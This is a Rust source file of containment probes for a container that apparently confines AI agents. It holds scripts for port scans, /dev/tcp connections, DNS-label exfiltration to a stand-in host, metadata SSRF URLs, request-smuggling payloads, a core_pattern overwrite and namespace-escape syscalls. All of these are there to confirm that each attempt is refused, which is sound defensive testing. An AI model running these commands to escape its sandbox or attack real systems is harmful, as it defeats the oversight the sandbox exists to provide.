//! The probes: each an attack tried from inside a running agent container, the THREATS case
//! it covers, what a closed bottle answers, and how to judge what was seen.
//!
//! A probe is a shell snippet (run with `docker exec` through the runner) that prints
//! observation lines `obs <label> <CODE> [count]` and ends with `done`. The verdict is
//! computed here, from the codes: a probe passes only when it ran to the end, observed at
//! least once, and every observation names the layer that was expected to refuse (the kernel's
//! `ENETUNREACH` for "no route", egress's `403:<layer>` refusal header, `EPERM` from seccomp or
//! missing capabilities, …). A code that is not on the probe's list fails it, so a bottle that
//! happens to be blocked by something else (an outside firewall, a timeout) still fails.

use std::fmt::Write as _;
use std::net::IpAddr;

use super::{reload, scripts};
use crate::runner::{Output, ProcessSpec, RunError, Runner, shell_escape};

/// Who the probe runs as inside the agent container.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunAs {
    /// The agent's own user (`node`), as the agent's session runs.
    Agent,
    /// Root in the container: sees every process and file (for the credential scans).
    Root,
}

/// One probe.
#[derive(Debug, Clone)]
pub struct Probe {
    /// Short stable name, e.g. `direct-tcp-all-ports`.
    pub id: String,
    /// THREATS case(s), e.g. `N1`.
    pub case: &'static str,
    /// What a closed bottle shows, in words.
    pub expected: String,
    pub run_as: RunAs,
    /// The shell snippet (the prelude is added by [`Probe::command`]).
    pub script: String,
    /// Codes that count as refused.
    pub allowed: Vec<&'static str>,
    /// Send the secret's search patterns on stdin (never on argv).
    pub needles_on_stdin: bool,
    /// Which group the probe belongs to (`network`, `credentials`, `escape`).
    pub group: &'static str,
    /// What the host does while the snippet runs.
    pub host_side: HostSide,
    /// Codes that count as refused only when the agent runs under gVisor ([`gvisor_codes`]).
    pub gvisor_also: Vec<&'static str>,
}

/// Work the host does while a probe's snippet runs in the agent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HostSide {
    /// Nothing: the snippet alone.
    None,
    /// Swap the bundle's routes between the bottle's own and a second policy (the credential
    /// route removed, the plain route narrowed), ending on the bottle's own ([`reload`]).
    RouteReload {
        auth_route: String,
        plain_route: String,
    },
}

/// What the bottle under test looks like from outside; found at run time.
#[derive(Debug, Clone, Default)]
pub struct Context {
    /// Addresses scanned on every TCP port: the host's own addresses, the bridge gateways of
    /// the bottle's networks and the default bridge, the bundle's addresses.
    pub all_port_targets: Vec<IpAddr>,
    /// Addresses scanned on a short list of well-known ports (public resolvers, metadata,
    /// other bridges of this host).
    pub common_port_targets: Vec<IpAddr>,
    /// A host in the bottle's routes that carries an injected credential.
    pub auth_route: Option<String>,
    /// A host in the bottle's routes without a credential.
    pub plain_route: Option<String>,
    /// The bottle holds a secret whose traces are searched for (patterns go on stdin).
    pub has_secret: bool,
    /// A credential-shaped value that egress's scanner must refuse (not the bottle's secret).
    pub scanner_bait: String,
    /// A random high-entropy DNS label (for the exfiltration probe).
    pub exfil_label: String,
    /// The agent runs under gVisor (`runsc`), read from the engine (`docker inspect`), not
    /// from inside the bottle: its kernel answers some refusals in its own words
    /// ([`gvisor_codes`]).
    pub gvisor: bool,
}

/// The every-port TCP scan (perl), for callers that aim it at addresses of their own
/// (the suite's bottle-to-bottle case). Arguments: `<ports spec> <address>…`.
pub const TCP_SCAN_SCRIPT: &str = scripts::TCP_SCAN_PL;

/// Ports tried on addresses that are not scanned on every port.
pub const COMMON_PORTS: &str = "22,53,80,443,2375,2376,3128,5000,8080,8443,9099";

/// Public and metadata addresses a direct request might aim at (IPv4 and IPv6).
pub fn well_known_targets() -> Vec<IpAddr> {
    [
        "1.1.1.1",
        "8.8.8.8",
        "169.254.169.254",
        "100.100.100.200",
        "2606:4700:4700::1111",
        "fd00:ec2::254",
        "::ffff:169.254.169.254",
        "::ffff:1.1.1.1",
    ]
    .iter()
    .filter_map(|s| s.parse().ok())
    .collect()
}

const NO_ROUTE: &[&str] = &["ENETUNREACH"];
/// IPv6 in a namespace with no IPv6 address: the kernel refuses before any packet.
const NO_ROUTE_V6: &[&str] = &["ENETUNREACH", "EADDRNOTAVAIL"];

fn join_ips(ips: &[IpAddr]) -> String {
    ips.iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join(" ")
}

fn node(js: &str, args: &str) -> String {
    format!("node -e {} {args}", shell_escape(js))
}

/// A node script that uses the HTTP helpers ([`scripts::HTTP1_JS`]).
fn node_http(js: &str, args: &str) -> String {
    node(&format!("{}{js}", scripts::HTTP1_JS), args)
}

/// A host no route names, in any policy the probes use.
const UNROUTED: &str = "example.com";

/// The egress refusal codes `<status>:<layer>` a probe accepts.
fn refused(layers: &[&'static str]) -> Vec<&'static str> {
    layers.to_vec()
}

/// Every probe for the context, in report order.
pub fn all(ctx: &Context) -> Vec<Probe> {
    let mut v = Vec::new();
    network(ctx, &mut v);
    credentials(ctx, &mut v);
    escape(&mut v);
    if ctx.gvisor {
        gvisor_codes(&mut v);
    }
    v
}

/// Whether the engine runs `container` under gVisor (its `HostConfig.Runtime`).
pub fn under_gvisor(runner: &dyn Runner, container: &str) -> Result<bool, RunError> {
    let spec =
        ProcessSpec::new("docker").args(["inspect", "-f", "{{.HostConfig.Runtime}}", container]);
    let out = runner.run(&spec)?;
    Ok(out.success() && out.stdout_str().trim() == "runsc")
}

/// What gVisor answers for a refusal that runc's kernel words differently; accepted only when
/// the engine says the agent runs under it, never from the bottle's own report.
///
/// - `EHOSTUNREACH` at once for any address: the agent's sandbox is started with
///   `--network=none`, so its network stack has no interface and nothing leaves (under runc
///   the same code could come back from a real network, so there it still fails).
/// - `USERNS-CREATED` (E3, through [`Probe::gvisor_also`]): a new user namespace. gVisor's kernel (the sentry) implements namespaces
///   itself and does not load the engine's seccomp profile, so `unshare -U` succeeds; the
///   namespace and any "root" in it exist only inside the sentry, and the host kernel never
///   sees a namespace call (the runc run of the suite proves the seccomp refusal).
fn gvisor_codes(v: &mut [Probe]) {
    for p in v {
        if p.allowed.contains(&"ENETUNREACH") {
            p.allowed.push("EHOSTUNREACH");
        }
        let also = std::mem::take(&mut p.gvisor_also);
        p.allowed.extend(also);
    }
}

fn p(
    group: &'static str,
    case: &'static str,
    id: &str,
    expected: &str,
    script: String,
    allowed: &[&'static str],
) -> Probe {
    Probe {
        id: id.to_string(),
        case,
        expected: expected.to_string(),
        run_as: RunAs::Agent,
        script,
        allowed: allowed.to_vec(),
        needles_on_stdin: false,
        group,
        host_side: HostSide::None,
        gvisor_also: Vec::new(),
    }
}

fn network(ctx: &Context, v: &mut Vec<Probe>) {
    let (v4_all, v6_all): (Vec<IpAddr>, Vec<IpAddr>) =
        ctx.all_port_targets.iter().partition(|ip| ip.is_ipv4());
    let mut common = ctx.common_port_targets.clone();
    common.extend(well_known_targets());
    let (v4_common, v6_common): (Vec<IpAddr>, Vec<IpAddr>) =
        common.iter().partition(|ip| ip.is_ipv4());
    let scan = |ports: &str, ips: &[IpAddr]| {
        format!(
            "perl -e {} {ports} {}\n",
            shell_escape(scripts::TCP_SCAN_PL),
            join_ips(ips)
        )
    };
    if !v4_all.is_empty() {
        v.push(p(
            "network",
            "N1 N9 E1",
            "direct-tcp-host-and-gateways-all-ports",
            "every port of every host address and gateway: no route (ENETUNREACH)",
            scan("1-65535", &v4_all),
            NO_ROUTE,
        ));
    }
    v.push(p(
        "network",
        "N1 N8 E1",
        "direct-tcp-public-metadata-bridges",
        "public, metadata and other bridge addresses on common ports: no route",
        scan(COMMON_PORTS, &v4_common),
        NO_ROUTE,
    ));
    let mut v6 = v6_all.clone();
    v6.extend(v6_common);
    v.push(p(
        "network",
        "N7",
        "direct-tcp-ipv6",
        "IPv6 (public, metadata, v4-mapped): no route",
        scan(COMMON_PORTS, &v6),
        NO_ROUTE_V6,
    ));
    let mut req_targets: Vec<IpAddr> = v4_all.clone();
    req_targets.extend(["1.1.1.1", "169.254.169.254"].map(|s| s.parse::<IpAddr>().unwrap()));
    v.push(p(
        "network",
        "N1 N9",
        "direct-http-request",
        "a real HTTP request to the gateways and the outside: no route",
        node(
            scripts::TCP_REQUEST_JS,
            &format!("80 {}", join_ips(&req_targets)),
        ),
        NO_ROUTE,
    ));
    let gw = v4_all
        .first()
        .map(ToString::to_string)
        .unwrap_or_else(|| "172.17.0.1".into());
    v.push(p(
        "network",
        "N1",
        "dev-tcp-and-dev-udp",
        "bash /dev/tcp and /dev/udp to the gateway and the outside: no route",
        format!(
            "for t in tcp/1.1.1.1/443 tcp/{gw}/80 tcp/{gw}/2375 udp/8.8.8.8/53 udp/{gw}/53; do \
             bb_try \"dev-$(echo $t | tr / :)\" bash -c \"echo x > /dev/$t\"; done\n"
        ),
        NO_ROUTE,
    ));
    v.push(p(
        "network",
        "N1",
        "no-proxy-vars",
        "with the proxy variables unset: no DNS, no route",
        "bb_try unset-proxy-name env -u HTTPS_PROXY -u HTTP_PROXY -u https_proxy -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 10 https://example.com/\n\
         env -u HTTPS_PROXY -u HTTP_PROXY -u https_proxy -u http_proxy -u ALL_PROXY -u all_proxy "
            .to_string()
            + &node(scripts::TCP_REQUEST_JS, "443 1.1.1.1 8.8.8.8\n"),
        &["NO-DNS", "ENETUNREACH"],
    ));
    let mut udp_targets: Vec<IpAddr> = ["8.8.8.8", "1.1.1.1", "127.0.0.11"]
        .iter()
        .map(|s| s.parse().unwrap())
        .collect();
    udp_targets.extend(v4_all.iter().copied());
    v.push(p(
        "network",
        "N1 N6",
        "udp-dns-direct",
        "UDP DNS to outside resolvers, the gateways and Docker's 127.0.0.11: no route / nobody listens",
        format!(
            "bb_try getent getent ahosts example.com\n{}",
            node(
                scripts::UDP_DNS_JS,
                &format!("example.com {} $(awk '/^nameserver/{{print $2}}' /etc/resolv.conf)\n", join_ips(&udp_targets))
            )
        ),
        &["ENETUNREACH", "NO-LISTENER", "OTHER:", "EADDRNOTAVAIL"],
    ));
    v.push(p(
        "network",
        "N6",
        "dns-label-exfiltration",
        "a high-entropy label through every resolver the agent knows: never sent",
        node(
            scripts::UDP_DNS_JS,
            &format!(
                "{}.{}.exfil.example.com 127.0.0.11 $(awk '/^nameserver/{{print $2}}' /etc/resolv.conf)\n",
                &ctx.exfil_label, &ctx.exfil_label
            ),
        ),
        &["ENETUNREACH", "NO-LISTENER", "EADDRNOTAVAIL"],
    ));
    v.push(p(
        "network",
        "N10",
        "raw-sockets",
        "raw IP and packet sockets, ping: EPERM",
        "perl -e 'for ([\"raw-icmp\",2,3,1],[\"raw-tcp\",2,3,6],[\"packet\",17,3,768],[\"raw-icmp6\",10,3,58]) { my ($l,@a)=@$_; if (socket(my $s,$a[0],$a[1],$a[2])) { print \"obs $l SUCCEEDED\\n\" } else { print \"obs $l \", ($!{EPERM}?\"EPERM\":$!{EACCES}?\"EACCES\":\"ERRNO\".($!+0)), \"\\n\" } }'\n\
         if command -v ping >/dev/null; then bb_try ping ping -c 1 -W 2 127.0.0.1; fi\n"
            .to_string(),
        &["EPERM", "EACCES"],
    ));
    // Through the proxy: egress must refuse, and say which layer did.
    let allow = refused(&["403:allowlist"]);
    v.push(p(
        "network",
        "N2 N4 N12",
        "proxy-unrouted-hosts",
        "CONNECT/GET to hosts and IP literals without a route, WebSocket upgrade: 403 allowlist",
        "bb_http connect-unrouted https://example.com/\n\
         bb_http get-unrouted http://example.com/\n\
         bb_http ip-literal https://1.1.1.1/\n\
         bb_http ip-literal-http http://8.8.8.8/\n\
         bb_http websocket http://ws.example.com/socket -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='\n\
         bb_http websocket-tls https://ws.example.com/socket -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='\n"
            .to_string(),
        &allow,
    ));
    v.push(p(
        "network",
        "N8 N7",
        "proxy-metadata",
        "metadata addresses (dotted, hex, octal, decimal, IPv6, names): 403 allowlist or ssrf",
        "for u in http://169.254.169.254/latest/meta-data/ http://0xa9fea9fe/ http://0251.0376.0251.0376/ \
         http://2852039166/ http://metadata.google.internal/ 'http://[fd00:ec2::254]/' 'http://[::ffff:169.254.169.254]/' \
         http://100.100.100.200/ 'http://[fe80::1]/'; do bb_http \"meta:$u\" \"$u\"; done\n"
            .to_string(),
        &["403:allowlist", "403:ssrf"],
    ));
    if let Some(route) = &ctx.auth_route {
        v.push(p(
            "network",
            "N3",
            "proxy-route-other-ports",
            "a routed host on another port (22, 8080, 2375): 403 allowlist",
            format!(
                "for port in 22 8080 2375; do bb_http \"port-$port\" \"https://{route}:$port/\"; bb_http \"port-http-$port\" \"http://{route}:$port/\"; done\n"
            ),
            &["403:allowlist"],
        ));
        v.push(p(
            "network",
            "N5",
            "proxy-host-mismatch",
            "Host header or SNI other than the CONNECT target: 403 host-mismatch / handshake refused",
            format!(
                "bb_http host-header https://{route}/ -H 'Host: example.com'\n{}",
                node(scripts::SNI_MISMATCH_JS, &format!("{route} example.com\n"))
            ),
            &["403:host-mismatch", "TLS-REFUSED", "TLS-CLOSED"],
        ));
        if let Some(other) = &ctx.plain_route {
            v.push(p(
                "network",
                "N5",
                "keep-alive-new-host",
                "on one kept-alive connection, a routed host then another Host (tunnel with the first host's SNI, proxy listener): 403 host-mismatch / allowlist, never forwarded",
                node_http(scripts::KEEPALIVE_JS, &format!("{route} {other} {UNROUTED}\n")),
                &["FIRST-ALLOWED", "403:host-mismatch", "403:allowlist"],
            ));
            let mut reload = p(
                "network",
                "N15",
                "live-reload-old-or-new",
                "requests fired while the routes are swapped live: each answered by the old or the new policy, never a mix, never open",
                {
                    let stop = reload::STOP_FILE;
                    let args =
                        format!("{route} {other} {UNROUTED} {} {stop}\n", reload::NEW_PREFIX);
                    format!("rm -f {stop}\n{}", node_http(scripts::RELOAD_JS, &args))
                },
                &[
                    "auth=PASSED",
                    "auth=PASSED-CRED",
                    "auth=403:allowlist",
                    "plain-old=PASSED",
                    "plain-old=PASSED-NOCRED",
                    "plain-old=403:path-allowlist",
                    "plain-new=PASSED",
                    "plain-new=PASSED-NOCRED",
                    "unrouted=403:allowlist",
                    "final=PASSED",
                    "final=PASSED-CRED",
                    "BOTH",
                ],
            );
            reload.host_side = HostSide::RouteReload {
                auth_route: route.clone(),
                plain_route: other.clone(),
            };
            v.push(reload);
        }
        v.push(p(
            "network",
            "N13",
            "proxy-request-smuggling",
            "CL+TE and obfuscated TE: one 400 protocol answer, never two requests",
            format!(
                "{}\nbb_raw cl-te 9099 'POST http://{route}/ HTTP/1.1\\r\\nHost: {route}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n'\n\
                 bb_raw te-obfuscated 9099 'POST http://{route}/ HTTP/1.1\\r\\nHost: {route}\\r\\nTransfer-Encoding: xchunked\\r\\nContent-Length: 4\\r\\n\\r\\n0\\r\\n\\r\\nGET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n'\n\
                 bb_raw te-twice 9099 'POST http://{route}/ HTTP/1.1\\r\\nHost: {route}\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\nGET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n'\n",
                scripts::RAW_HTTP_SH,
            ),
            &["400:protocol"],
        ));
    }
    v.push(p(
        "network",
        "N14",
        "gate-ports-as-forward-proxy",
        "the other gate ports asked to forward to an outside host: closed or refused",
        format!(
            "{}\nfor port in 9418 9420 9100; do bb_raw \"gate-$port\" $port 'GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n'; done\n",
            scripts::RAW_HTTP_SH
        ),
        // The relay closes (or resets) a connection whose gate socket is not there.
        &[
            "CLOSED",
            "RESET",
            "ECONNREFUSED",
            "400:none",
            "403:none",
            "404:none",
            "405:none",
        ],
    ));
    if let Some(route) = &ctx.plain_route {
        let bait = &ctx.scanner_bait;
        let b64 = base64_of(bait);
        let hexed = hex::encode(bait);
        v.push(p(
            "network",
            "N11 C5",
            "proxy-secret-scan",
            "a credential-shaped value in path, query, header, bearer, JSON, base64, hex, url-encoded, gzip body: 403 secret-scan",
            format!(
                "bb_http path \"https://{route}/x/{bait}\"\n\
                 bb_http query \"https://{route}/?k={bait}\"\n\
                 bb_http header \"https://{route}/\" -H \"X-Custom: {bait}\"\n\
                 bb_http bearer \"https://{route}/\" -H \"Authorization: Bearer {bait}\"\n\
                 bb_http json \"https://{route}/\" -H 'content-type: application/json' --data '{{\"k\":\"{bait}\"}}'\n\
                 bb_http multipart \"https://{route}/\" -F \"f={bait}\"\n\
                 bb_http base64 \"https://{route}/\" --data '{b64}'\n\
                 bb_http hex \"https://{route}/\" --data '{hexed}'\n\
                 bb_http urlenc \"https://{route}/\" --data 'k=%{}'\n\
                 printf %s '{bait}' | gzip -c > /tmp/.bb-gz && bb_http gzip \"https://{route}/\" -H 'content-encoding: gzip' --data-binary @/tmp/.bb-gz; rm -f /tmp/.bb-gz\n",
                percent_all(bait).trim_start_matches('%')
            ),
            &["403:secret-scan"],
        ));
    }
}

fn base64_of(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn percent_all(s: &str) -> String {
    s.bytes().fold(String::new(), |mut o, b| {
        let _ = write!(o, "%{b:02X}");
        o
    })
}

/// The forms a secret is searched for: raw, hex (both cases) and base64 at each of the three
/// byte alignments it can have inside a longer encoded stream.
pub fn needles(secret: &str) -> Vec<String> {
    use base64::Engine as _;
    let b = secret.as_bytes();
    let mut v = vec![secret.to_string(), hex::encode(b), hex::encode_upper(b)];
    for k in 0..3usize {
        let mut buf = vec![0u8; k];
        buf.extend_from_slice(b);
        let enc = base64::engine::general_purpose::STANDARD_NO_PAD.encode(&buf);
        let start = (k * 8).div_ceil(6);
        let end = (buf.len() * 8) / 6;
        if end > start + 8 {
            v.push(enc[start..end].to_string());
        }
    }
    v
}

fn credentials(ctx: &Context, v: &mut Vec<Probe>) {
    if !ctx.has_secret {
        return;
    }
    let mut env = p(
        "credentials",
        "C1",
        "secret-in-environ-and-cmdline",
        "the bottle's secret (raw, hex, base64) in no process's environ or cmdline, nor the exec env",
        // Patterns come on stdin (never argv); `grep -c` counts per file, `-l` names hits.
        "pat=$(cat); n=$(ls -d /proc/[0-9]* | wc -l)\n\
         hits=$(printf '%s\\n' \"$pat\" | grep -lsF -f - /proc/[0-9]*/environ /proc/[0-9]*/cmdline)\n\
         for f in $hits; do echo \"obs $f FOUND\"; done\n\
         [ -z \"$hits\" ] && echo \"obs procs:$n CLEAN\"\n"
            .to_string(),
        &["CLEAN"],
    );
    env.run_as = RunAs::Root;
    env.needles_on_stdin = true;
    v.push(env);
    let mut fs = p(
        "credentials",
        "C2",
        "secret-anywhere-in-filesystem",
        "the secret (raw, hex, base64) in no file of the agent's filesystem",
        "hits=$(grep -rlsF -f - --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev / 2>/dev/null | head -n 20)\n\
         for f in $hits; do echo \"obs file:$f FOUND\"; done\n\
         [ -z \"$hits\" ] && echo \"obs filesystem CLEAN\"\n"
            .to_string(),
        &["CLEAN"],
    );
    fs.run_as = RunAs::Root;
    fs.needles_on_stdin = true;
    v.push(fs);
}

fn escape(v: &mut Vec<Probe>) {
    v.push(p(
        "escape",
        "C2",
        "no-private-key",
        "no private key (the bottle CA's or any other) outside the image's own packages",
        "hits=$(grep -rlsE 'BEGIN ([A-Z]+ )?PRIVATE KEY' /run /etc /home /root /tmp /usr/local/share/ca-certificates /var/tmp 2>/dev/null | head -n 20)\n\
         for f in $hits; do echo \"obs key:$f FOUND\"; done\n\
         [ -z \"$hits\" ] && echo \"obs private-keys NONE\"\n"
            .to_string(),
        &["NONE"],
    ));
    v.push(p(
        "escape",
        "E1",
        "docker-socket-any-path",
        "no Docker/containerd API socket anywhere; the bottle's own sockets do not speak the engine API; no DOCKER_HOST",
        "socks=$(find / \\( -path /proc -o -path /sys \\) -prune -o -type s -print 2>/dev/null)\n\
         for s in $socks; do case \"$s\" in /run/bot-bottle/*) \
           if curl -sS --max-time 5 --unix-socket \"$s\" http://localhost/version 2>/dev/null | grep -q ApiVersion; then echo \"obs sock:$s ENGINE-API\"; else echo \"obs sock:$s BOTTLE-GATE\"; fi ;; \
           *) echo \"obs sock:$s FOREIGN-SOCKET\" ;; esac; done\n\
         for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /var/run/crio/crio.sock /run/podman/podman.sock; do [ -e \"$s\" ] && echo \"obs path:$s PRESENT\"; done\n\
         [ -n \"$DOCKER_HOST\" ] && echo \"obs docker-host SET\"\n\
         echo \"obs socket-search DONE\"\n"
            .to_string(),
        &["BOTTLE-GATE", "DONE"],
    ));
    // no-new-privileges is read with prctl(PR_GET_NO_NEW_PRIVS): gVisor's
    // `/proc/self/status` has no `NoNewPrivs` line.
    v.push(p(
        "escape",
        "E2",
        "capabilities-and-no-new-privs",
        "no effective, permitted or ambient capability; no-new-privileges set; su fails",
        "for k in CapEff CapPrm; do val=$(awk -v k=\"$k:\" '$1==k{print $2}' /proc/self/status); \
         [ \"$val\" = 0000000000000000 ] && echo \"obs $k NONE\" || echo \"obs $k HELD-$val\"; done\n\
         case $(uname -m) in aarch64) prctl=167 ;; *) prctl=157 ;; esac\n\
         perl -e 'my $n=0; for my $c (0..63) { $n++ if syscall($ARGV[0], 47, 1, $c, 0, 0) == 1 } print \"obs CapAmb \", ($n ? \"HELD-$n\" : \"NONE\"), \"\\n\"' \"$prctl\"\n\
         nnp=$(perl -e 'print syscall($ARGV[0], 39, 0, 0, 0, 0)' \"$prctl\"); [ \"$nnp\" = 1 ] && echo \"obs no-new-privs SET\" || echo \"obs no-new-privs UNSET\"\n\
         bb_try su su -c id root\n\
         if command -v sudo >/dev/null; then bb_try sudo sudo -n true; fi\n"
            .to_string(),
        &["NONE", "SET", "AUTH-FAILED", "EPERM"],
    ));
    let mut e3 = p(
        "escape",
        "E3",
        "namespaces-mount-keyctl-bpf",
        "unshare, mount, keyctl, add_key, bpf, perf_event_open: EPERM (under gVisor: ENOSYS or EACCES, and a user namespace only inside its kernel)",
        "if unshare -U -r true 2>/dev/null; then echo 'obs unshare-user USERNS-CREATED'; else bb_try unshare-user unshare -U -r true; fi\n\
         bb_try unshare-mount unshare -m true\n\
         bb_try mount-tmpfs mount -t tmpfs none /tmp\n\
         case $(uname -m) in x86_64) n='keyctl=250 add_key=248 bpf=321 unshare=272 perf_event_open=298 setns=308' ;; \
           aarch64) n='keyctl=219 add_key=217 bpf=280 unshare=97 perf_event_open=241 setns=268' ;; *) n='' ;; esac\n\
         for kv in $n; do name=${kv%=*}; nr=${kv#*=}; \
           perl -e 'my ($name,$nr)=@ARGV; my @a = $name eq \"unshare\" ? (0x10000000) : $name eq \"bpf\" ? (5,0,0) : $name eq \"setns\" ? (0,0) : (0,-1,0,0,0); my $r=syscall($nr,@a); print \"obs $name \", ($r>=0?($name eq \"unshare\"?\"USERNS-CREATED\":\"SUCCEEDED\"):(grep({ $!{$_} } sort keys %!))[0] // \"ERRNO\".($!+0)), \"\\n\"' \"$name\" \"$nr\"; done\n"
            .to_string(),
        &["EPERM", "ENOSYS", "EACCES"],
    );
    // gVisor has no performance counters (ENODEV) and no setns on a non-namespace fd.
    e3.gvisor_also = vec!["USERNS-CREATED", "ENODEV", "ENOTSUP"];
    v.push(e3);
    v.push(p(
        "escape",
        "E4",
        "mounts-devices-proc-sys",
        "no host directory mounted, only standard devices, mknod EPERM, /proc/sys and core_pattern read-only",
        "awk '{print $5}' /proc/self/mountinfo | while read -r m; do case \"$m\" in \
           /|/proc|/proc/*|/dev|/dev/pts|/dev/mqueue|/dev/shm|/sys|/sys/*|/etc/hosts|/etc/hostname|/etc/resolv.conf|/run/bot-bottle|/sbin/docker-init|/usr/sbin/docker-init|/dev/init) ;; \
           *) echo \"obs mount:$m HOST-MOUNT\" ;; esac; done\n\
         echo 'obs mounts CHECKED'\n\
         for d in $(ls /dev); do case \"$d\" in console|core|fd|full|mqueue|null|ptmx|pts|random|shm|stderr|stdin|stdout|tty|urandom|zero|net) ;; *) echo \"obs dev:$d EXTRA-DEVICE\" ;; esac; done\n\
         [ -n \"$(find /dev -type b 2>/dev/null)\" ] && echo 'obs block-devices PRESENT'\n\
         bb_try mknod mknod /tmp/.bb-null c 1 3\n\
         bb_try core-pattern sh -c 'echo \"|/tmp/x\" > /proc/sys/kernel/core_pattern'\n\
         bb_try proc-sys-vm sh -c 'echo 3 > /proc/sys/vm/drop_caches'\n\
         bb_try sysrq sh -c 'echo h > /proc/sysrq-trigger'\n"
            .to_string(),
        // ENOENT: the engine masks `/proc/sysrq-trigger` entirely.
        &["CHECKED", "EPERM", "EROFS", "EACCES", "ENOENT"],
    ));
}

impl Probe {
    /// `sh -c <prelude + script>` run as the probe's user in `container`; the secret's search
    /// patterns, when the probe needs them, go on stdin.
    pub fn spec(&self, container: &str, secret: Option<&str>) -> ProcessSpec {
        let user = match self.run_as {
            RunAs::Agent => "node",
            RunAs::Root => "root",
        };
        let script = format!("{}\n{}\necho done\n", scripts::PRELUDE, self.script);
        let spec = ProcessSpec::new("docker")
            .args(["exec", "-i", "-u", user, container, "sh", "-c", &script]);
        match (self.needles_on_stdin, secret) {
            (true, Some(s)) => spec.stdin(format!("{}\n", needles(s).join("\n")).into_bytes()),
            _ => spec.stdin(Vec::new()),
        }
    }

    /// Run the probe in the agent container `agent` of the bundle `sidecar`, with what the
    /// host does meanwhile ([`HostSide`]).
    pub fn run(
        &self,
        runner: &dyn Runner,
        agent: &str,
        sidecar: &str,
        secret: Option<&str>,
    ) -> Result<Output, RunError> {
        let spec = self.spec(agent, secret);
        match &self.host_side {
            HostSide::None => runner.run(&spec),
            HostSide::RouteReload {
                auth_route,
                plain_route,
            } => reload::run(runner, &spec, agent, sidecar, auth_route, plain_route),
        }
    }

    /// Judge what the probe printed.
    pub fn judge(&self, stdout: &str, stderr: &str) -> Verdict {
        judge(&self.allowed, stdout, stderr)
    }
}

/// What one probe saw.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Verdict {
    pub pass: bool,
    /// One line: the observations summarised (offending ones first).
    pub seen: String,
}

/// A code is allowed when it is on the list; `OTHER:` on the list allows any `OTHER:…`.
fn allowed_code(allowed: &[&str], code: &str) -> bool {
    allowed
        .iter()
        .any(|a| *a == code || (a.ends_with(':') && a.len() > 1 && code.starts_with(a)))
}

/// The verdict from a probe's output: pass only when it ran to its end (`done`), observed at
/// least once, and every observation's code is allowed.
pub fn judge(allowed: &[&str], stdout: &str, stderr: &str) -> Verdict {
    let mut bad: Vec<String> = Vec::new();
    let mut good: std::collections::BTreeMap<String, u64> = Default::default();
    let mut seen_any = false;
    let mut finished = false;
    for line in stdout.lines() {
        let line = line.trim();
        if line == "done" {
            finished = true;
            continue;
        }
        let Some(rest) = line.strip_prefix("obs ") else {
            continue;
        };
        let mut f = rest.split_whitespace();
        let (Some(label), Some(code)) = (f.next(), f.next()) else {
            continue;
        };
        let count: u64 = f.next().and_then(|c| c.parse().ok()).unwrap_or(1);
        seen_any = true;
        if allowed_code(allowed, code) {
            *good.entry(code.to_string()).or_default() += count;
        } else {
            bad.push(format!("{label} {code}"));
        }
    }
    let summary = good
        .iter()
        .map(|(c, n)| {
            if *n > 1 {
                format!("{c} x{n}")
            } else {
                c.clone()
            }
        })
        .collect::<Vec<_>>()
        .join(", ");
    if !finished || !seen_any {
        let err = stderr.lines().last().unwrap_or("").trim();
        return Verdict {
            pass: false,
            seen: format!(
                "probe did not finish ({})",
                if err.is_empty() { "no output" } else { err }
            ),
        };
    }
    if bad.is_empty() {
        Verdict {
            pass: true,
            seen: summary,
        }
    } else {
        let shown: Vec<&String> = bad.iter().take(6).collect();
        let more = bad.len().saturating_sub(6);
        let mut seen = shown
            .iter()
            .map(|s| s.as_str())
            .collect::<Vec<_>>()
            .join("; ");
        if more > 0 {
            seen.push_str(&format!("; … {more} more"));
        }
        Verdict { pass: false, seen }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pass_needs_the_end_marker_and_only_allowed_codes() {
        let ok = "obs tcp:1.1.1.1 ENETUNREACH 65535\nobs tcp:10.0.0.1 ENETUNREACH 3\ndone\n";
        let v = judge(NO_ROUTE, ok, "");
        assert!(v.pass, "{v:?}");
        assert_eq!(v.seen, "ENETUNREACH x65538");
        let cut = "obs tcp:1.1.1.1 ENETUNREACH 65535\n";
        assert!(!judge(NO_ROUTE, cut, "killed").pass);
        assert!(!judge(NO_ROUTE, "done\n", "").pass, "no observation");
        let open = "obs tcp:172.17.0.1 ENETUNREACH 10\nobs tcp:172.17.0.1 ROUTE 20\ndone\n";
        let v = judge(NO_ROUTE, open, "");
        assert!(!v.pass);
        assert!(v.seen.contains("tcp:172.17.0.1 ROUTE"), "{}", v.seen);
        // A timeout is not a refusal by the layer we expect.
        assert!(!judge(NO_ROUTE, "obs http:1.1.1.1:80 TIMEOUT\ndone\n", "").pass);
    }

    #[test]
    fn other_prefix_allows_any_other_code_only_when_listed() {
        assert!(judge(&["OTHER:"], "obs x OTHER:foo\ndone\n", "").pass);
        assert!(!judge(&["EPERM"], "obs x OTHER:foo\ndone\n", "").pass);
        assert!(!judge(&["403:allowlist"], "obs x 403:ssrf\ndone\n", "").pass);
    }

    #[test]
    fn needles_find_the_secret_in_any_base64_alignment() {
        use base64::Engine as _;
        let secret = "ghp_Q7rT2mX9vLk4Wn8Zp3Hs6Jd1Fy5Bc0Ae2Gu7";
        let n = needles(secret);
